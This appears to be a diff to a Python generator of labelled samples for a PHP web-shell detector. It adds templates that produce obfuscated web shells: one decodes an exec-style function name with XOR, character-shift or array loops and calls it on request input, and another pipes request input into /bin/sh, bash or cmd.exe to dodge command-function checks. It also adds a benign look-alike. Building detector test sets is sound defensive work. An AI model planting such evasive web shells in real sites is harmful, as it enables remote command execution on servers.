@@ -629,6 +629,53 @@ def t_sh_revshell(g):
     return shebang(r, "sh") + body
 
 
+def t_loop_decrypt(g):
+    """A name or a payload decrypted by a loop over literal data: XOR with a
+    repeating key, a character shift, or an array of characters joined."""
+    r = g.rng
+    name = r.choice(EXEC_NAMES + CODE_NAMES)
+    i, o, s, k = g.var(), g.var(), g.var(), g.var()
+    form = r.randrange(3)
+    if form == 0:
+        key = "".join(r.choice("abcdefghijkmnpqrstuvwxyz0123456789") for _ in range(r.randint(2, 6)))
+        data = "".join("\\x%02x" % (ord(c) ^ ord(key[j % len(key)])) for j, c in enumerate(name))
+        g.stmt("%s = \"%s\";" % (s, data))
+        g.stmt("%s = %s;" % (k, php_sq(key)))
+        loop = ("for (%s = 0; %s < strlen(%s); %s++) {\n    %s .= %s[%s] ^ %s[%s %% strlen(%s)];\n}"
+                % (i, i, s, i, o, s, i, k, i, k))
+        g.transforms.add("loop:xor")
+    elif form == 1:
+        n = r.randint(1, 5)
+        g.stmt("%s = %s;" % (s, php_sq("".join(chr(ord(c) + n) for c in name))))
+        loop = ("for (%s = 0, $n = strlen(%s); %s < $n; ++%s)\n    %s .= chr(ord(%s[%s]) - %d);"
+                % (i, s, i, i, o, s, i, n))
+        g.transforms.add("loop:shift")
+    else:
+        g.stmt("%s = array(%s);" % (s, ", ".join(php_sq(c) for c in name)))
+        loop = ("for (%s = 0; %s < count(%s); %s++) {\n    %s .= %s[%s];\n}" % (i, i, s, i, o, s, i))
+        g.transforms.add("loop:array")
+    body = "%s = '';\n%s\n%s%s(%s);" % (o, loop, g.at(), o, g.cast(g.src()))
+    return php_file(g, body)
+
+
+def t_shell_spawn(g):
+    """An interactive shell started with pipes; the command from the request
+    is written to its stdin, so no command function ever sees it."""
+    r = g.rng
+    sh = r.choice(["$_SERVER['COMSPEC']", "getenv('COMSPEC')", "'/bin/sh'", "'/bin/bash -i'", "'cmd.exe'"])
+    c, p, d = g.var(), g.var(), g.var()
+    g.transforms.add("shell:" + sh.strip("'").split("(")[0])
+    if r.random() < 0.5:
+        body = ("%s = %s;\n%s = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));\n"
+                "$proc = %s(%s, %s, %s);\nfwrite(%s[0], %s . \"\\n\");\nfclose(%s[0]);\n"
+                "echo stream_get_contents(%s[1]);\n"
+                % (c, g.src(), d, g.fn("proc_open"), sh, d, p, p, c, p, p))
+    else:
+        body = ("%s = %s;\n%s = %s(%s, 'w');\nfwrite(%s, %s . \"\\n\");\npclose(%s);\n"
+                % (c, g.src(), p, g.fn("popen"), sh, p, c, p))
+    return php_file(g, body)
+
+
 # ---------------------------------------------------------------------------
 # benign templates: look like the malicious ones to a byte pattern
 
@@ -768,6 +815,26 @@ def b_cli_tool(g):
     return php_file(g, body)
 
 
+def b_loop_table(g):
+    """Loops over literals in real code: a CRC table, a Caesar-style slug, a
+    checksum; nothing reaches a sink."""
+    r = g.rng
+    form = r.randrange(2)
+    if form == 0:
+        body = ("$crc_table = array();\nfor ($i = 0; $i < 256; $i++) {\n    $c = $i;\n"
+                "    for ($k = 0; $k < 8; $k++) {\n        $c = ($c & 1) ? (($c >> 1) ^ 0xEDB88320) : ($c >> 1);\n"
+                "    }\n    $crc_table[$i] = $c;\n}\n"
+                "function table_crc($s)\n{\n    global $crc_table;\n    $crc = 0xFFFFFFFF;\n"
+                "    for ($i = 0; $i < strlen($s); $i++) {\n        $crc = ($crc >> 8) ^ $crc_table[($crc ^ ord($s[$i])) & 0xFF];\n"
+                "    }\n    return $crc ^ 0xFFFFFFFF;\n}\n")
+    else:
+        body = ("$label = %s;\n$slug = '';\nfor ($i = 0; $i < strlen($label); $i++) {\n"
+                "    $ch = strtolower($label[$i]);\n    $slug .= ctype_alnum($ch) ? $ch : '-';\n}\n"
+                "$h = popen('/usr/bin/logger -t app ' . escapeshellarg($slug), 'r');\npclose($h);\n"
+                % php_sq(r.choice(["Site Settings", "My Account", "Order History"])))
+    return php_file(g, body)
+
+
 # name, function, class, language (extension), expect
 TEMPLATES = [
     ("eval_input", t_eval_input, "malicious", "php", "high"),
@@ -794,6 +861,8 @@ TEMPLATES = [
     ("python_spammer", t_python_spammer, "malicious", "py", "high"),
     ("sh_download_exec", t_sh_download_exec, "malicious", "sh", "high"),
     ("sh_revshell", t_sh_revshell, "malicious", "sh", "high"),
+    ("loop_decrypt", t_loop_decrypt, "malicious", "php", "high"),
+    ("shell_spawn", t_shell_spawn, "malicious", "php", "high"),
     ("fixed_exec", b_fixed_exec, "benign", "php", "none"),
     ("template_eval", b_template_eval, "benign", "php", "none"),
     ("updater", b_updater, "benign", "php", "none"),
@@ -804,6 +873,7 @@ TEMPLATES = [
     ("markdown_doc", b_markdown, "benign", "md", "none"),
     ("encoded_asset", b_encoded_asset, "benign", "php", "none"),
     ("cli_tool", b_cli_tool, "benign", "php", "none"),
+    ("loop_table", b_loop_table, "benign", "php", "none"),
 ]
 
 
